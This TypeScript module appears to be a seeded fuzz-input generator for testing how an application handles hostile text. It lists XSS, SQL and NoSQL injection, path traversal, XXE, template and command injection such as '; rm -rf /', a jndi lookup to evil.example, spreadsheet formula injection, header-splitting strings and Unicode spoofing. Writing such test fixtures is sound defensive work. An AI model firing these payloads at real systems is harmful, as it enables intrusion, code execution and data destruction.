import { Dice } from '@moontower/fake-city/random';

/** A text nobody should send, by the kind of trouble it means. */
export interface HostileText { kind: string; text: string }

const range = (from: number, to: number): number[] => Array.from({ length: to - from + 1 }, (_, at) => from + at);
const unit = (code: number): string => String.fromCharCode(code);
const cross = (left: readonly string[], right: readonly string[], join: (a: string, b: string) => string): string[] => left.flatMap((a) => right.map((b) => join(a, b)));

const TAGS = ['script', 'SCRIPT', 'sCrIpT/x', 'img', 'svg', 'math', 'iframe', 'object', 'body', 'video', 'details open', 'base', 'style', 'marquee'];
const HANDLERS = ['src=x onerror=alert(1)', 'onload=alert(1)', "onmouseover='alert(1)'", 'href=javascript:alert(1)', 'style="background:url(javascript:alert(1))"', 'xlink:href="data:text/html,<script>alert(1)</script>"'];
const BREAKOUTS = ['"', "'", '`', '">', "'>", '-->', ']]>', '</title>', '</textarea>', '</style>', '</script>', '</noscript>', '</main></div>', '<!--', '<![CDATA[', '<?xml version="1.0"?>', '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>', '&quot;', '&lt;', '&#60;', '&#x3c;', '\\u003c', '%3C', '\\x3c', '<\n', '<\t', '<\u0000'];
const ADDRESSES = ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\nscript:alert(1)', '\u0001javascript:alert(1)', ' javascript:alert(1)', 'data:text/html;base64,PHNjcmlwdD4=', 'vbscript:x', 'file:///etc/passwd', '//evil.example', 'https://evil.example@austintexas.gov/', 'http://127.0.0.1:6379/', '\\\\evil.example\\share'];
const FORMULAS = ['=1+1', '=HYPERLINK("https://evil.example","x")', "=cmd|'/c calc'!A0", '+1+cmd', '-1+1', '@SUM(1)', '\t=1', '\r=1', '\n=1', ' =1', '\u00a0=1', '\u200b=1', '\ufeff=1', '\uff1d1', '\uff0b1', '\uff0d1', '\uff201', '"=1"', ';=1', ',=1', "'=1"];
const QUERIES = ["' OR '1'='1", "'; DROP TABLE items;--", '1; SELECT pg_sleep(9)', '" OR ""="', '{"$gt":""}', '{"$where":"sleep(9000)"}', '$where', '$ne', '$set', '$expr', 'a.b', '.a', 'a.', '$', '{$gt:""}', "[$ne]=1", '|| 1==1//', '*)(uid=*', '") | //*'];
const NAMES = ['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'valueOf', '__defineGetter__', 'then', 'length', 'undefined', 'null', 'NaN', 'true', '[object Object]', 'Infinity', '-0', '1e309', '0x10', '9007199254740993', '١٢٣', '½'];
const PATHS = ['../../../../etc/passwd', '..\\..\\windows\\win.ini', '%2e%2e%2f', '..%252f', '/etc/passwd%00.png', 'C:\\con', 'aux', '.', '..', '/', '//', '?', '#', '%', '%zz', '%E0%A4%A', '%00', 'a/b?c=d#e', ';x'];
const TEMPLATES = ['{{constructor.constructor("alert(1)")()}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '${jndi:ldap://evil.example/a}', '%s%s%s%n', '{0}', '$&', "$'", '$`', '$1', '\\1', '`id`', '$(id)', '; rm -rf /', '| cat', '&& id', '\u001b[2J\u001b[31m'];
const BREAKS = ['\r\nBcc: all@example.org', '\nSet-Cookie: a=b', '\r\n\r\n<html>', '\rX: y', 'a\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:b', 'a\nEND:VCALENDAR', ' folded', 'a\u2028b', 'a\u2029b', 'a\u0085b', 'a\u000bb', 'a\u000cb', 'a;b,c\\d:e', 'a\\nb', '\r', '\n', '\r\n', '\t', '"\r\n"', 'a","b', '"', '""', ',', ',,,', '# rows: 0', '\n# rows: 0\r\n'];
const DIRECTIONS = [0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x200e, 0x200f, 0x061c].map(unit);
const INVISIBLE = ['\u00ad', '\u034f', '\u180e', '\u200b', '\u200c', '\u200d', '\u2060', '\u2061', '\u2064', '\ufeff', '\ufffe', '\uffff', '\ufff9', '\ufffc', '\ufffd', '\ufdd0', '\u{e0041}', '\u{e007f}', '\u{1fffe}', '\u{10ffff}', '\u{f0000}', '\ue000', '\ufe0f', '\u3164', '\u115f'];
const EMOJI = ['\u{1f600}', '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}', '\u{1f44d}\u{1f3fd}', '\u{1f1fa}\u{1f1f8}', '\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}', '#\ufe0f\u20e3', '\u2764\ufe0f', '\u{1fae0}', '\u{1f3fb}', '\u{1f1fa}'];
const LETTERS = ['\ufdfa', '\u0130stanbul', 'stra\u00dfe', '\ufb01x', 'e\u0301', '\u0301alone', '\u00c5\u212b', '\u0430ustin', '\u2135\u05d0\u0628', '\u0e01\u0e33\u0e49', '\u1100\u1161\u11a8', '\u{20000}\u{2a6d6}', '\u{1d4d0}\u{1d4fe}', '\u02bb\u2019', '\u05e9\u05dc\u05d5\u05dd (Lamar)', '\u0645\u0631\u062d\u0628\u0627 123 \u05d0', '\u4e2d\u6587', '\u0939\u093f\u0928\u094d\u0926\u0940', '\u{12000}', '\ufdfd'];

const kinds: Record<string, (dice: Dice) => string[]> = {
  markup: () => cross(TAGS, HANDLERS, (tag, handler) => `<${tag} ${handler}>`),
  breakout: () => cross(BREAKOUTS, ['<script>alert(1)</script>', ' onfocus=alert(1) autofocus x='], (out, inside) => `${out}${inside}`),
  address: () => ADDRESSES,
  formula: () => FORMULAS,
  query: () => QUERIES,
  name: () => NAMES,
  path: () => PATHS,
  template: () => TEMPLATES,
  break: () => BREAKS,
  direction: () => cross(DIRECTIONS, ['', 'txt.exe'], (mark, after) => `Permit ${mark}gnp.${after}`),
  control: () => [...range(0, 0x1f), ...range(0x7f, 0x9f)].map((code) => `Light${unit(code)}7`),
  surrogate: () => cross(['\ud800', '\udbff', '\udc00', '\udfff', '\udc00\ud800', '\ud83d'], ['', 'a'], (half, beside) => `${beside}${half}${beside}`),
  invisible: () => cross(INVISIBLE, ['', 'a'], (mark, beside) => `${beside}${mark}${beside}`),
  emoji: () => [...EMOJI, EMOJI.join(''), ...EMOJI.map((one) => one.slice(0, -1))],
  letter: () => LETTERS,
  marks: (dice) => range(1, 12).map((times) => `Z${Array.from({ length: times * 40 }, () => unit(dice.whole(0x300, 0x36f))).join('')}`),
  large: () => ['x'.repeat(2 ** 20), '\u{1f600}'.repeat(2 ** 18), `${'a'.repeat(9_999)}\u{1f600}`, `${'b'.repeat(499)}\u{1f600}`, `${'c'.repeat(199)}\u{1f600} ${'d'.repeat(39)}\u{1f600}`, `${'<script>'.repeat(2_000)}`, 'e '.repeat(8_000), `${'\ufdfa'.repeat(3_000)}`, `${'\n'.repeat(5_000)}f`, `${'"'.repeat(5_000)}`],
  noise: (dice) => range(1, 60).map(() => Array.from({ length: dice.whole(1, 60) }, () => unit(dice.chance(0.5) ? dice.whole(0, 0x2ff) : dice.whole(0, 0xffff))).join('')),
};

/** At least 500 different texts, the same ones for the same seed. Some are a megabyte, some hold half characters: not every store takes them as they are. */
export function hostileTexts(seed = 1): HostileText[] {
  const dice = new Dice(seed);
  const seen = new Set<string>();
  return Object.entries(kinds).flatMap(([kind, make]) => make(dice).flatMap((text) => {
    if (text === '' || seen.has(text)) return [];
    seen.add(text);
    return [{ kind, text }];
  }));
}

/** True for text that UTF-8 can hold: no half of a surrogate pair. */
export const isWellFormed = (text: string): boolean => !/\p{Surrogate}/u.test(text);

/** As a database that stores UTF-8 gives it back. */
export const asStored = (text: string): string => text.replaceAll(/\p{Surrogate}/gu, '\ufffd');
